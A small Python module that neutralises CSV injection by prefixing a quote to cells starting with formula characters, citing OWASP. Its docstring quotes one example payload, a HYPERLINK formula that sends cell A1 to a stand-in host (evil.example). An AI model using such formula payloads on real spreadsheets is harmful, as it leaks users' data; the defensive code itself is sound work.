"""Pure: a text cell made safe for spreadsheet programs (CSV injection, OWASP).

A CSV cell that starts with `=`, `+`, `-` or `@` is run as a formula by Excel, LibreOffice
and Google Sheets; a tab or carriage return first hides such a start. Edit summaries and page
titles are anyone's text (`=HYPERLINK("https://evil.example/?"&A1,"click") #1Lib1Ref`), so
such a cell is prefixed with a single quote, as the OWASP guidance on CSV injection says:
the spreadsheet then shows the text, starting with the quote, and runs nothing.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """`text` with a `'` prefixed when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
